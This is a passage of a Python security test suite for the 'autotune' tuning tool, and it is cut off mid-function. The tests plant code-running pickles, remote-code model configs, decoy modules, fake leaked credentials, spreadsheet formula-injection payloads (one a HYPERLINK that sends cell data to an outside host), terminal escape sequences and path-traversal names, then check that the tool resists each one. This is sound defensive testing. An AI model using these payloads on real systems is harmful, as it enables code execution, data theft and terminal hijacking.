"""What somebody may try against a user of `autotune`, and what comes of it.

A sweep, a model, a table or a cache may come from a stranger; a log or a record may go to one. Each scenario tries what
its threats say on real sweeps of the tiny model and checks the outcome. `test_security.py` runs them all;
`python -m tests.security` prints the table.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import pickle
import pty
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import ClassVar

import psutil
import torch
from troubles import ROOT, WAIT_S, Place, Ran, tiny_model

from autotune.artifacts.store import MANIFEST
from autotune.errors import Exit, StageError
from autotune.execution.worker import QUIET
from autotune.results.rows import CommandRun, CurvePoint, Finalist, TableRow, Trial
from autotune.results.table import Table, read_table, write_table
from autotune.secrets import HIDDEN
from autotune.stages.jobs import TimeJob
from autotune.stages.protocol import Result

APART = ["unshare", "--map-root-user", "--net"]
"""Runs a command in a network namespace without interfaces."""


@dataclass(frozen=True)
class Tried:
    """A line of the table."""

    threat: str
    how: str
    outcome: str


# --- what the scenarios share ----------------------------------------------------------------------------------------

WATCH = '''\
"""Notes in every Python process what it opens (of the files that are named), and whom it calls."""
import os, sys

BUSY = []


def note(*what):
    BUSY.append(1)
    try:
        with open(os.environ["WATCH_NOTES"], "a", encoding="utf-8") as stream:
            stream.write(" ".join(map(str, what)) + "\\n")
    finally:
        BUSY.pop()


def hook(event, args):
    if BUSY:
        return
    if event in ("socket.connect", "socket.sendto") and isinstance(args[1], tuple):
        note("called", args[1])
    elif event == "socket.getaddrinfo":
        note("looked up", args[0])
    elif event == "open" and isinstance(args[0], str) and os.path.basename(args[0]) in os.environ["WATCH_FILES"].split():
        note("opened", args[0])


sys.addaudithook(hook)
'''


class Watch:
    """What the Python processes of a command open and call."""

    def __init__(self, folder: Path, *files: str) -> None:
        self.folder, self.file = folder / "watch", folder / "watch" / "notes.txt"
        self.folder.mkdir()
        (self.folder / "sitecustomize.py").write_text(WATCH, encoding="utf-8")
        self.file.touch()
        self.environment = {
            "PYTHONPATH": os.pathsep.join([str(self.folder), str(ROOT)]),
            "WATCH_NOTES": str(self.file),
            "WATCH_FILES": " ".join(files),
        }

    def notes(self) -> list[str]:
        return self.file.read_text(encoding="utf-8").splitlines()


def command(place: Place, *arguments: object, before: Sequence[str] = (), **environment: str) -> Ran:
    """Run any command of `autotune`, in the folder of the place."""
    paths = os.pathsep.join(filter(None, [str(ROOT), os.environ.get("PYTHONPATH")]))
    done = subprocess.run(
        [*before, sys.executable, "-m", "autotune", *map(str, arguments)],
        cwd=place.folder, capture_output=True, text=True, encoding="utf-8", timeout=WAIT_S, check=False,
        env={**os.environ, "AUTOTUNE_CACHE": str(place.cache), "PYTHONPATH": paths, **environment},
    )  # fmt: skip
    assert "Traceback" not in done.stderr, done.stderr
    return Ran(done.returncode, done.stdout, done.stderr)


def files_below(*folders: Path) -> dict[Path, bytes]:
    return {path: path.read_bytes() for folder in folders for path in sorted(folder.rglob("*")) if path.is_file()}


def may_be_apart() -> bool:
    """Whether this process may start another in a network namespace of its own."""
    if shutil.which("unshare") is None:
        return False
    return subprocess.run([*APART, "true"], check=False, capture_output=True).returncode == 0


class Bomb:
    """A pickle of it makes a file when it is loaded."""

    def __init__(self, file: Path) -> None:
        self.file = file

    def __reduce__(self) -> tuple[Callable[[str], None], tuple[str]]:
        return os.mkdir, (str(self.file),)


def bomb(at: Path, goes_off: Path, of_torch: bool = True) -> Path:
    """Write a pickle that makes a folder `goes_off` when it is loaded."""
    if of_torch:
        torch.save(Bomb(goes_off), at)
    else:
        at.write_bytes(pickle.dumps(Bomb(goes_off)))
    return at


def really_goes_off(folder: Path) -> None:
    """Check that the bombs are real: loaded as unsafe code does, they go off."""
    for of_torch in (True, False):
        trial = folder / f"trial-{of_torch}"
        file = bomb(folder / "trial.bin", trial, of_torch)
        if of_torch:
            torch.load(file, weights_only=False)
        else:
            pickle.loads(file.read_bytes())
        assert trial.is_dir()
        trial.rmdir()
        file.unlink()


# --- a sweep and a model from a stranger -----------------------------------------------------------------------------

IMPORTED = """\
import os, pathlib, sys

with open(pathlib.Path(__file__).parent / "imported.txt", "a") as stream:
    stream.write(f"{os.getpid()}\\n")


def judge(prediction, reference, item):
    act()
    return float(len(prediction) % 3)


def act():
    import time
    time.sleep(0.02)
"""
EVIL = "import pathlib; pathlib.Path({file!r}).touch()\nclass Config: pass\nclass Model: pass\nclass Tokenizer: pass\n"


def add_remote_code(model: Path, file: Path) -> None:
    """Let a model folder ask for code of its own, in every way that transformers knows."""
    for name, wanted in {
        "config.json": {"AutoConfig": "evil.Config", "AutoModelForCausalLM": "evil.Model"},
        "tokenizer_config.json": {"AutoTokenizer": ["evil.Tokenizer", "evil.Tokenizer"]},
    }.items():
        path = model / name
        path.write_text(
            json.dumps({**json.loads(path.read_text(encoding="utf-8")), "auto_map": wanted}), encoding="utf-8"
        )
    (model / "evil.py").write_text(EVIL.format(file=str(file)), encoding="utf-8")
    (model / "custom_generate").mkdir()
    (model / "custom_generate" / "generate.py").write_text(EVIL.format(file=str(file)), encoding="utf-8")


def environments(process: subprocess.Popen[str]) -> dict[str, dict[str, str]]:
    """Return the environments of a sweep's real processes, until it has shown one of each kind."""
    found: dict[str, dict[str, str]] = {}
    tuner = psutil.Process(process.pid)
    while process.poll() is None:
        try:
            for child in tuner.children(recursive=True):
                line = " ".join(child.cmdline())
                kind = "fresh" if "autotune.execution.worker" in line else "warm" if "spawn_main" in line else ""
                if (kind and "--multiprocessing-fork" in line) or kind == "fresh":
                    found[kind] = child.environ()
            libraries = " ".join(region.path for region in tuner.memory_maps())
            assert not any(name in libraries for name in ("libonnxruntime", "onnxruntime_pybind", "libtorch"))
            found["tuner"] = tuner.environ()
        except psutil.Error:
            pass
        time.sleep(0.05)
    return found


def a_sweep_from_a_stranger(place: Place) -> list[Tried]:
    """A whole sweep, without a network, on a model folder that holds code and pickles."""
    went_off, ran_code, imported = place.folder / "went-off", place.folder / "ran-code", place.folder / "imported.txt"
    really_goes_off(place.folder)
    add_remote_code(place.model, ran_code)
    names = ("pytorch_model.bin", "adapter_model.bin", "training_args.bin", "vocab.pkl", "tokenizer.pickle")
    for name in names:
        bomb(place.model / name, went_off, of_torch=name.endswith(".bin"))
    (place.folder / "judging.py").write_text(IMPORTED, encoding="utf-8")
    (place.folder / "unnamed.py").write_text(IMPORTED.replace("imported.txt", "unnamed.txt"), encoding="utf-8")
    file = place.sweep({"learning_rate": {"choice": [0.001, 0.002]}}, "judging:judge")
    watch = Watch(place.folder, *names)

    planned = command(place, "plan", file, before=APART, **watch.environment)
    assert planned.code == Exit.OK, planned.err
    assert not imported.exists(), "plan has imported the metric"

    talkative = {"ORT_DISABLE_TELEMETRY": "0", "HF_HUB_DISABLE_TELEMETRY": "0", "HF_HUB_OFFLINE": "0"}
    with (place.folder / "err.txt").open("w", encoding="utf-8") as err:
        process = subprocess.Popen(
            [*APART, sys.executable, "-m", "autotune", "run", str(file), "--out", str(place.out)], cwd=place.folder,
            stdout=subprocess.DEVNULL, stderr=err, text=True, encoding="utf-8",
            env={**os.environ, "AUTOTUNE_CACHE": str(place.cache), **watch.environment, **talkative},
        )  # fmt: skip
        seen = environments(process)
    said = (place.folder / "err.txt").read_text(encoding="utf-8")
    assert process.returncode == Exit.OK, said
    rows = place.rows()
    assert [row["status"] for row in rows] == ["ok"] * 3, rows
    assert {kind for kind in ("warm", "fresh") if QUIET.items() <= seen[kind].items()} == {"warm", "fresh"}
    assert all(seen[kind]["HF_HUB_OFFLINE"] == "1" for kind in ("warm", "fresh"))
    workers = imported.read_text(encoding="utf-8").split()
    assert str(process.pid) not in workers
    by_run = imported.read_bytes()

    others = (("status", place.out), ("select", place.out), ("select", place.out / "results.csv"),
              ("plan", file), ("cache",), ("bench", place.out / "best" / "onnx", "--processes", "1"), ("doctor",))  # fmt: skip
    for arguments in others:
        other = command(place, *arguments, before=APART, **watch.environment)
        assert other.code == Exit.OK, (arguments, other.err)
    assert imported.read_bytes() == by_run
    assert not (place.folder / "unnamed.txt").exists()
    assert not ran_code.exists()
    assert not went_off.exists()
    assert watch.notes() == []

    probe = "import socket; socket.create_connection(('127.0.0.1', 9), 2)"
    cut_off = subprocess.run([*APART, sys.executable, "-c", probe], check=False, capture_output=True, text=True)
    assert "Network is unreachable" in cut_off.stderr, cut_off.stderr
    return [
        Tried("a network call of a sweep that names nothing remote",
              "`run` (fine-tune, merge, build, time, score), `plan`, `status`, `select`, `cache`, `bench` and `doctor` in "
              "a network namespace without interfaces; every `connect`, `sendto` and look-up of a name is noted",
              f"all end with 0, {len(rows)} rows ok; no call, no look-up"),
        Tried("telemetry of ONNX Runtime and of the hub",
              "`ORT_DISABLE_TELEMETRY=0` in the user's environment; the environments of the real processes are read",
              "off in the warm worker and in the timing process; the tuner loads neither library"),
        Tried("code in a model folder",
              "`auto_map` in config.json and tokenizer_config.json, `custom_generate/generate.py`; a whole sweep",
              "never imported; the sweep ends with 0"),
        Tried("pickles beside a model's safetensors",
              ", ".join(names) + ", each of which makes a folder when it is loaded; a whole sweep",
              "never opened; the sweep ends with 0"),
        Tried("code beside a sweep file",
              "a metric that notes who imports it, and a module that the sweep does not name",
              f"imported by worker processes alone ({len(workers)}), not by `plan`, `select`, `status`; the other never"),
    ]  # fmt: skip


def modules_beside_a_sweep(place: Place) -> list[Tried]:
    """The folder of a sweep holds modules named like libraries."""
    names = ("json", "numpy", "psutil", "torch", "yaml", "onnxruntime_genai", "sitecustomize")
    for name in names:
        text = f"import pathlib; pathlib.Path({str(place.folder / 'hidden')!r}).touch()\nraise ImportError('mine')\n"
        (place.folder / f"{name}.py").write_text(text, encoding="utf-8")
    place.sweep(metric="trouble:judge", space={"build": [{"precision": "int4"}]})
    # As the console script does: the folder where it is started is not on the path.
    start = "import sys; from autotune.cli import main; sys.exit(main(sys.argv[1:]))"
    done = subprocess.run(
        [sys.executable, "-P", "-c", start, "run", "sweep.json", "--out", str(place.out)], cwd=place.folder, check=False,
        capture_output=True, text=True, encoding="utf-8",
        env={**os.environ, "AUTOTUNE_CACHE": str(place.cache), "PYTHONPATH": str(ROOT)},
    )  # fmt: skip
    assert done.returncode == Exit.OK, done.stderr
    assert not (place.folder / "hidden").exists()
    how = f"{', '.join(f'{name}.py' for name in names)} beside the sweep file, in the working directory"
    return [Tried("modules of a stranger named like libraries", how, "never imported; the sweep ends with 0")]


# --- secrets ---------------------------------------------------------------------------------------------------------

HUB_TOKEN = "hf_" + "aB3dE5gH7jK9mN1pQ3sT5vW7yZ2"
SECRETS = {
    "HF_TOKEN": HUB_TOKEN,
    "WANDB_API_KEY": 'q"1\\zeta/with=signs&more',
    "DB_PASSWORD": "correct horse battery",
    "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMIK7MDENG",
    "SSH_PRIVATE_KEY": "-----BEGIN KEY-----\nb3BlbnNzaC1rZXktdjEAAAA\nc2Vjb25kLWxpbmUtb2Yta2V5\n-----END KEY-----",
    "PIP_INDEX_URL": "https://me:s3cretpipword@pypi.example.org/simple",
}
FURTHER = ("hf_QwErTyUiOpAsDfGhJkLzXc99", "urlp4ssword", "sig-of-a-url-0123456789", "bearer-0123456789abcdef")
"""Secrets that no variable of the environment tells of: in URLs, or known by their shape."""
UNSAID = (
    HUB_TOKEN, "zeta/with", "zeta%2Fwith", "correct horse", "correct%20horse", "wJalrXUtn", "b3BlbnNz", "c2Vjb25k",
    "s3cretpipword", *FURTHER,
)  # fmt: skip
"""Parts of secrets; none may be found anywhere."""

LEAKS = f'''\
"""A metric that tells secrets in all the ways that libraries do: the first line of acts.txt says which."""
import ctypes, json, os, pathlib, time, urllib.parse

HERE = pathlib.Path(__file__).parent
FIRST = None
TOLD = "GET https://bob:{FURTHER[1]}@host/x?sig={FURTHER[2]}&v=1 Authorization: Bearer {FURTHER[3]} token {FURTHER[0]}"


def judge(prediction, reference, item):
    global FIRST
    FIRST = FIRST or item["id"]
    if item["id"] == FIRST:
        act()
    return float(len(prediction) % 3)


def tell():
    secrets = {{name: os.environ[name] for name in {sorted(SECRETS)!r}}}
    os.write(1, repr(secrets).encode() + b"\\n")
    os.write(2, json.dumps(secrets).encode() + b"\\n")
    for value in secrets.values():
        os.write(2, (value + " " + urllib.parse.quote(value, safe="") + "\\n").encode())
    os.write(1, TOLD.encode() + b"\\n")


def act():
    file = HERE / "acts.txt"
    what, *rest = file.read_text(encoding="utf-8").split("\\n") if file.exists() else [""]
    file.write_text("\\n".join(rest), encoding="utf-8")
    tell()
    if what == "crash":
        ctypes.string_at(0)
    elif what.startswith("raise "):
        raise ValueError(eval(what[6:]))
    elif what == "wait":
        (HERE / "noted").touch()
        time.sleep(600)
'''


def unsaid(texts: Iterable[tuple[object, str | bytes]]) -> int:
    """Check that no secret is in any of these. Returns how many there were."""
    count = 0
    for name, text in texts:
        content = text if isinstance(text, bytes) else text.encode()
        assert [secret for secret in UNSAID if secret.encode() in content] == [], name
        count += 1
    return count


def leaking_sweep(place: Place, rates: Sequence[float], *acts: str) -> Path:
    (place.folder / "leaks.py").write_text(LEAKS, encoding="utf-8")
    data = json.loads(place.sweep().read_text(encoding="utf-8"))["data"]
    prompt = f"See https://me:{FURTHER[1]}@host/ and {HUB_TOKEN}. {{text}}\nLabel:"
    place.acts(*acts)
    return place.sweep({"learning_rate": {"choice": list(rates)}}, "leaks:judge", data={**data, "prompt": prompt,
                       "metric": "leaks:judge"}, objectives={"custom": "maximize", "size_mb": "minimize"})  # fmt: skip


HOSTILE = ("=cmd|' /C calc'!A0", "+1+1", "@SUM(1+1)", "\t=1+1", "\n-2+3", '"=1+1', "\x1b]0;owned\x07\x1b[2J", "\x9b31m")
"""What an error may say to run in a spreadsheet, or to command a terminal."""


def secrets_and_hostile_messages(place: Place) -> list[Tried]:
    """One sweep whose stages print secrets to their logs, raise them, crash with them, and say hostile things."""
    raised = ["f'cannot reach {TOLD} with ' + os.environ['DB_PASSWORD'] + ' ' + os.environ['WANDB_API_KEY']"]
    raised += [repr(text) for text in HOSTILE]
    acts = ["tell", "crash", *(f"raise {text}" for text in raised)]
    file = leaking_sweep(place, [round(0.001 * (n + 1), 4) for n in range(len(acts))], *acts)
    here, there = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "autotune", "run", str(file), "--out", str(place.out)], cwd=place.folder, text=True,
        stdout=subprocess.PIPE, stderr=there, encoding="utf-8",
        env={**os.environ, "AUTOTUNE_CACHE": str(place.cache), "PYTHONPATH": str(ROOT), "TERM": "xterm", **SECRETS},
    )  # fmt: skip
    os.close(there)
    terminal = b""
    while chunk := _read(here):
        terminal += chunk
    os.close(here)
    out, _ = process.communicate()
    assert process.returncode == Exit.OK, terminal.decode()
    rows = place.rows()
    assert [row["status"] for row in rows] == ["ok", "failed", *["failed"] * len(raised), "ok"], rows
    assert HIDDEN in rows[2]["error"], rows[2]
    logs = files_below(place.out / "logs")
    assert sum(HIDDEN.encode() in log for log in logs.values()) >= len(rows) - 1
    crashed = logs[place.out / "logs" / f"{rows[1]['candidate']}.log"]
    assert crashed.count(HIDDEN.encode()) >= 10
    status, chosen = command(place, "status", place.out, **SECRETS), command(place, "select", place.out, **SECRETS)
    again = command(place, "run", file, "--out", place.out, **SECRETS)
    assert (status.code, chosen.code, again.code) == (Exit.OK, Exit.OK, Exit.OK), again.err
    lasting = ["trial", "candidate", "status", "error", "custom"]  # a timing may be made again on a quieter machine
    assert [[row[name] for name in lasting] for row in place.rows()] == [
        [row[name] for name in lasting] for row in rows
    ]
    recorded = command(place, "run", place.out / "sweep.yaml", "--out", place.out, **SECRETS)
    assert recorded.code == Exit.USAGE
    assert "data.prompt: a secret stood where it says [redacted]" in recorded.err
    said = [("terminal", terminal), ("stdout", out)]
    said += [(ran, ran.out + ran.err) for ran in (status, chosen, again, recorded)]
    kept = [item for item in files_below(place.out).items() if "outcomes" not in item[0].parts]
    count = unsaid([*said, *kept])
    assert {"sweep.yaml", "machine.json", "results.csv", "runs.csv"} <= {path.name for path, _ in kept}
    manifests = unsaid([item for item in files_below(place.cache).items() if item[0].name == MANIFEST])

    texts = [text if isinstance(text, bytes) else text.encode() for _, text in said]
    assert not any(bad in text for text in texts for bad in (b"\x1b]0;", b"\x1b[2J", b"\x9b", b"\xc2\x9b", b"\x07"))
    table = (place.out / "results.csv").read_bytes()
    assert not any(bad in table for bad in (b"\x1b", b"\x9b", b"\x07", b"\t", b"\r"))
    assert len(table.splitlines()) == len(rows) + 1
    for path in place.out.glob("*.csv"):
        assert_tame(path)
    return [
        Tried("secrets in logs",
              f"a stage writes {len(SECRETS)} secrets of the environment (plain, as repr, JSON, in URLs; a key of several "
              f"lines) and {len(FURTHER)} in URLs, headers and by their shape to its log, by file descriptor; one crashes then",
              f"`{HIDDEN}` stands in their place, in the log of the crash too"),
        Tried("secrets in rows, records, messages",
              "a stage raises an error with them; the prompt of the sweep holds some",
              f"none in {count} files and outputs of `run`, `status`, `select`, nor in {manifests} manifests of the cache"),
        Tried("a record without its secrets is run", "`autotune run results/x/sweep.yaml`",
              "exit 2: data.prompt: a secret stood where it says [redacted]; the sweep file itself goes on"),
        Tried("an error commands the terminal", "`ESC ]0;` and `ESC [2J`, 8-bit `CSI`, in errors; stderr is a terminal",
              "shown as text by `run`, `status`, `select`; as text in results.csv"),
        Tried("an error breaks the table or runs in a spreadsheet", ", ".join(f"`{text!r}`" for text in HOSTILE[:6]),
              "one line and one cell each, none begins with = + - @"),
    ]  # fmt: skip


def _read(terminal: int) -> bytes:
    try:
        return os.read(terminal, 65536)
    except OSError:  # on Linux the other side is closed
        return b""


class LeakJob(TimeJob):
    """A stage of a fresh process that prints secrets, then ends as `what` says."""

    function: ClassVar[str] = "security:leak"

    what: str = ""


def leak(job: LeakJob, out: Path) -> Result:
    """Tell the secrets."""
    for value in SECRETS.values():
        os.write(2, f"{value}\n".encode())
    if job.what == "crash":
        os.kill(os.getpid(), signal.SIGSEGV)
    if job.what == "hang":
        time.sleep(600)
    if job.what == "raise":
        raise StageError("failed", f"no: {SECRETS['DB_PASSWORD']} {HUB_TOKEN}")
    return {}


FROM_ENGINE = """\
import json, sys
from pathlib import Path
from security import LeakJob
from autotune.execution.local import LocalEngine
from autotune.errors import StageError

if __name__ == "__main__":
    said = []
    with LocalEngine() as engine:
        for what in ("", "raise", "crash", "hang"):
            job = LeakJob(graph="", provider="cpu", prompt_tokens=1, new_tokens=2, machine="", what=what, model_dir=Path())
            for how in ("warm", "fresh"):
                log = Path(sys.argv[1]) / f"{how}-{what}.log"
                timeout = 25 if what == "hang" else None
                try:
                    engine.run(job, Path(sys.argv[1]), log, timeout) if how == "warm" else engine.run_fresh(job, log, timeout)
                except StageError as error:
                    said.append(str(error))
    print(json.dumps(said))
"""


def secrets_of_every_process(place: Place) -> list[Tried]:
    """Both kinds of workers tell secrets and end well, badly, by a crash and by a time-out."""
    script = place.folder / "engine.py"
    script.write_text(FROM_ENGINE, encoding="utf-8")
    paths = os.pathsep.join([str(Path(__file__).parent), str(ROOT)])
    done = subprocess.run(
        [sys.executable, str(script), str(place.folder / "logs")], check=False, capture_output=True, text=True,
        encoding="utf-8", env={**os.environ, **SECRETS, "PYTHONPATH": paths}, timeout=WAIT_S,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert len(json.loads(done.stdout)) == 6, done.stdout
    logs = files_below(place.folder / "logs")
    assert len(logs) == 8
    assert all(log.count(HIDDEN.encode()) >= len(SECRETS) for log in logs.values())
    unsaid([("said", done.stdout), *logs.items()])
    return [
        Tried("secrets in the logs of stages that end badly",
              "printed by the warm worker and by a fresh process that then return, raise, crash (SIGSEGV) or hang",
              f"none in {len(logs)} logs, none in the messages")
    ]  # fmt: skip


def the_tuner_is_killed_before_it_cleans(place: Place) -> list[Tried]:
    """A stage prints secrets, and the tuner is killed before that stage has ended."""
    leaking_sweep(place, [0.001], "tell", "wait")
    process = place.start(**SECRETS)
    place.wait_for(place.folder / "noted")
    workers = psutil.Process(process.pid).children(recursive=True)
    process.kill()
    process.communicate()
    psutil.wait_procs(workers, timeout=WAIT_S)
    before = b"".join(files_below(place.out / "logs").values())
    assert SECRETS["AWS_SECRET_ACCESS_KEY"].encode() in before
    ran = place.run(**SECRETS)
    assert ran.code == Exit.OK, ran.err
    unsaid(item for item in files_below(place.out).items() if "outcomes" not in item[0].parts)
    return [
        Tried("secrets in the log of a run that was killed", "SIGKILL to the tuner while a stage has printed them",
              "they stay until the same command goes on, which takes them out")
    ]  # fmt: skip


def secrets_on_command_lines(place: Place) -> list[Tried]:
    """Secrets in every argument and every key of a sweep that is refused."""
    file = place.sweep()
    url = f"https://me:{FURTHER[1]}@host/models?sig={FURTHER[2]}"
    long = "x" * 70 + HUB_TOKEN  # cut to 80 characters, half of it would be left
    tried: list[tuple[object, ...]] = [
        ("run", url), ("run", file, "--set", f"model={url}"), ("run", file, "--set", f"data.train={url}"),
        ("run", file, "--set", f"strategy={long}"), ("plan", file, "--set", f"space.lora.{HUB_TOKEN}=1"),
        ("run", file, "--trials", HUB_TOKEN), ("run", file, "--hours", long), ("select", url), ("status", url),
        ("select", place.folder, "--limit", f"{HUB_TOKEN} <= 1"), ("bench", url), (HUB_TOKEN,),
        ("run", file, "--set", f"limits=['{url} <= 3']"), ("cache", "prune", "--to", long), ("plan", file, "--set", url),
    ]  # fmt: skip
    answers = [command(place, *arguments, **SECRETS) for arguments in tried]
    assert {answer.code for answer in answers} == {Exit.USAGE}, answers
    unsaid((arguments, answer.out + answer.err) for arguments, answer in zip(tried, answers, strict=True))
    unsaid(files_below(place.folder / "results").items())
    return [
        Tried("secrets in messages about the command line or the sweep",
              f"{len(tried)} wrong commands with a token or with `https://user:password@host/?sig=...` in file names, "
              "arguments, `--set` keys and values; some so long that a message cuts them",
              "exit 2 each, no secret and no half of one in the message")
    ]  # fmt: skip


# --- names, tables ---------------------------------------------------------------------------------------------------


def names_stay_inside(place: Place) -> list[Tried]:
    """Names of sweeps and candidates that lead elsewhere."""
    file = place.sweep(space={"build": [{"precision": "int4"}]})
    inside = files_below(place.folder)
    names = (
        "..",
        ".",
        "../up",
        "/tmp/x",
        "a/b",
        "a\\b",
        "C:x",
        "-rf",
        "~",
        "a\nb",
        "a\x1b[2Jb",
        "x" * 65,
        "é",
        "%2e%2e",
    )
    for name in names:
        refused = command(place, "run", file, "--set", f"name={json.dumps(name)}")
        assert refused.code == Exit.USAGE, (name, refused.err)
        assert "name" in refused.err
        assert "\x1b" not in refused.err
    assert files_below(place.folder) == inside

    ran = place.run()
    assert ran.code == Exit.OK, ran.err
    table = place.out / "results.csv"
    good = table.read_text(encoding="utf-8")
    candidate = str(place.rows()[-1]["candidate"])
    (place.folder / "evil.json").write_text("{}", encoding="utf-8")
    outside = {path: content for path, content in files_below(place.folder).items() if place.out not in path.parents}
    ids = ("../../evil", "../evil", "/etc/evil", "..", ".", "a/b", "a\\b", "\x1b[2J", "é" * 4, "", "x" * 65)
    for name in ids:
        table.write_text(good.replace(candidate, name), encoding="utf-8")
        for arguments in (
            ("run", file, "--out", place.out),
            ("select", place.out),
            ("status", place.out),
            ("select", table),
        ):
            refused = command(place, *arguments)
            assert refused.code == Exit.USAGE, (name, arguments, refused.err)
            assert "results.csv: candidate: must be the name of a candidate" in refused.err, refused.err
            assert "\x1b" not in refused.err
    table.write_text(good, encoding="utf-8")
    after = {path: content for path, content in files_below(place.folder).items() if place.out not in path.parents}
    assert {path for path in after if after[path] != outside.get(path) and place.cache not in path.parents} == set()

    (place.folder / "file").write_text("", encoding="utf-8")
    for out in ("file", "file/below", "e\x1b[2Jl\nine", "x" * 300, "/proc/nowhere"):
        refused = command(place, "run", file, "--out", out)
        assert "\x1b" not in refused.err
        assert refused.code == Exit.USAGE, (out, refused.err)
    return [
        Tried("a sweep's name leads out of the results folder", ", ".join(f"`{name[:12]!r}`" for name in names),
              "exit 2: name; nothing is written"),
        Tried("a candidate's name in a damaged results.csv leads out of it", ", ".join(f"`{name[:12]!r}`" for name in ids),
              "exit 2 from `run`, `select` and `status`: results.csv: candidate: must be the name of a candidate; nothing "
              "is written"),
        Tried("an `--out` that cannot be, or that commands a terminal",
              "a file, below a file, 300 characters, /proc, a name with `ESC [2J` and a line break",
              "exit 2 each; what is shown is escaped"),
    ]  # fmt: skip


FORMULAS = (
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1",
    "''=1+1", '"=1+1"', '=HYPERLINK("http://x/?"&A1,"a, b")', "=1\n=2", "\uff1d1+1", "\uff0b1", "\uff201", "\uff0d1", "\x00=1",
)  # fmt: skip


def assert_tame(file: Path) -> None:
    """Check that no text of a table would be run by a spreadsheet; numbers may be below 0."""
    for cells in csv.reader(io.StringIO(file.read_text(encoding="utf-8"), newline="")):
        for cell in cells:
            try:
                float(cell)
            except ValueError:
                assert not cell.strip("\x00 ").startswith(
                    ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
                ), cell
                assert not {"\t", "\r", "\n"} & set(cell), cell


def tables_run_nothing(place: Place) -> list[Tried]:
    """Every table with every text a formula, written, read, and written again."""
    tables: dict[str, type[TableRow]] = {
        "results.csv": Trial, "curves.csv": CurvePoint, "finalists.csv": Finalist, "runs.csv": CommandRun, "front.csv": Trial,
    }  # fmt: skip
    cells = 0
    for name, kind in tables.items():
        file = place.folder / name
        texts = [column.name for column in kind.columns if column.type is str]
        rows = [kind(dict.fromkeys(texts, text)) for text in FORMULAS]
        if name in ("results.csv", "curves.csv", "runs.csv"):
            table = Table(file, kind)
            for row in rows:
                table.append(row)
        else:
            write_table(file, kind.columns, rows)
        once = file.read_bytes()
        assert_tame(file)
        back = read_table(file, kind)
        assert len(back) == len(rows)
        for _ in range(2):  # what was read is written again, and again
            write_table(file, kind.columns, read_table(file, kind))
            assert file.read_bytes() == once
        fewer = Table(file, kind)  # and when a column is added
        fewer._rewrite()
        assert file.read_bytes() == once
        file.unlink()
        cells += len(rows) * len(texts)
    how = f"{len(FORMULAS)} formulas (with tabs, line breaks, quotes, full-width signs, NUL) in every text of {', '.join(tables)}"
    return [
        Tried("a cell that a spreadsheet would run", f"{how}; read, and written again",
              f"{cells} cells, none begins as a formula; byte for byte the same when written again")
    ]  # fmt: skip


def tables_command_no_terminal(place: Place) -> list[Tried]:
    """Escape sequences in data, file names, a results table and a record that came from elsewhere."""
    bad = "\x1b]0;owned\x07\x1b[2J\u202e"
    rows = [{"text": f"{word} {bad} {n}", "label": f"{word}{bad}"} for n in range(12) for word in ("yes", "no")]
    rows += [{"text": "", "label": ""}, rows[0]]
    data = place.folder / "da\x1b[2Jta.jsonl"
    data.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    spec = {"train": str(data), "holdout": 0.4, "prompt": "Text\x1b[2J: {text}\nLabel:", "completion": " {label}"}
    file = place.sweep(data=spec, space={"build": [{"precision": "int4"}]})
    ran = place.run()
    assert ran.code == Exit.OK, ran.err
    planned = command(place, "plan", file)
    table = place.out / "results.csv"
    header, *lines = table.read_text(encoding="utf-8").splitlines()
    hostile = [line.replace(",ok,,", f",ok,{bad},", 1) + f",{bad}" for line in lines]
    assert all(line.count(bad) == 2 for line in hostile)
    table.write_text("\n".join([f"{header},my{bad}", *hostile, ""]), encoding="utf-8")
    record = place.out / "sweep.yaml"
    record.write_text(
        record.read_text(encoding="utf-8").replace("name: trouble", 'name: "\\e]0;owned\\a\\e[2J"'), encoding="utf-8"
    )
    running = {
        "pid": os.getpid(),
        "host": bad,
        "started": 1.0,
        "stage": bad,
        "since": 1.0,
        "trial": 1,
        "candidate": bad,
    }
    (place.out / "running.json").write_text(json.dumps(running), encoding="utf-8")
    shown = [command(place, *arguments) for arguments in (
        ("select", place.out), ("select", place.out, "--json"), ("status", place.out), ("status", place.out, "--json"),
        ("select", table), ("plan", file, "--json"), ("plan", file, "--set", f"strategy={json.dumps(bad)}"),
    )]  # fmt: skip
    for one in (ran, planned, *shown):
        found = {sign for sign in ("\x1b", "\x07", "\u202e", "\x9b") if sign in one.out + one.err}
        assert not found, (found, one)
    assert [one.code for one in shown[:6]] == [Exit.OK] * 6, shown
    for one in (shown[1], shown[3], shown[5]):
        json.loads(one.out)
    return [
        Tried("data, tables or records command the terminal",
              "`ESC ]0;`, `ESC [2J`, U+202E in a data file's name, prompt, labels and rows, in results.csv and its header, "
              "in sweep.yaml, in running.json",
              "`run`, `plan`, `select` and `status` show them escaped; `--json` stays JSON")
    ]  # fmt: skip


# --- pickles ---------------------------------------------------------------------------------------------------------


def pickled_models_are_refused(place: Place) -> list[Tried]:
    """Model folders whose weights are pickles, in every disguise."""
    went_off = place.folder / "went-off"
    really_goes_off(place.folder)
    watch = Watch(place.folder, "pytorch_model.bin", "weights.bin", "adapter_model.bin", "model-1.bin")
    sound = place.model
    config = json.loads((sound / "config.json").read_text(encoding="utf-8"))

    def only(folder: Path, name: str) -> None:
        (folder / "model.safetensors").unlink()
        bomb(folder / name, went_off)

    def by_index(folder: Path) -> None:
        (folder / "model.safetensors").rename(folder / "model-0.safetensors")
        weights = {"a": "model-0.safetensors", "b": "model-1.bin"}
        (folder / "model.safetensors.index.json").write_text(json.dumps({"weight_map": weights}), encoding="utf-8")
        bomb(folder / "model-1.bin", went_off)

    def by_old_index(folder: Path) -> None:
        only(folder, "model-1.bin")
        (folder / "pytorch_model.bin.index.json").write_text(
            json.dumps({"weight_map": {"a": "model-1.bin"}}), encoding="utf-8"
        )

    def by_config(folder: Path) -> None:
        bomb(folder / "adapter_model.bin", went_off)
        (folder / "config.json").write_text(
